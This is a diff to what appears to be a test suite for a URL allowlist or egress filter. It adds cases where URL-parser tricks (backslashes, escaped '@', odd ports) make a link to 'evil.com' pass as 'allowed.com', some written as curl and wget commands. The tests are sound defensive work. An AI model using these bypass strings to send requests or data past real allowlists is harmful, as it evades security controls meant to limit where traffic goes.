@@ -13,6 +13,8 @@ describe('a URL does not leave by', () => {
     ['a backslash before the @ of a URL without slashes', { url: 'http:allowed.com\\@evil.com' }],
     ['an escape before the @ of a name without scheme', { command: "wget 'evil.com%2f@allowed.com:80x/'" }],
     ['the same in a command', { command: "curl 'https:allowed.com\\@evil.com'" }],
+    ['a port that no parser takes, without slashes', { x: 'http:allowed.com,evil.com:80x\\@allowed.com' }],
+    ['the same in a command', { command: "mytool 'http:allowed.com,evil.com:80x\\@allowed.com'" }],
     ['backslashes all over', { x: 'HTTP:\\\\allowed.com\\@evil.com?.allowed.com' }],
     ['a second @', { url: 'https://a@evil.com@allowed.com/' }],
     ['one slash', { url: 'https:/evil.com' }],
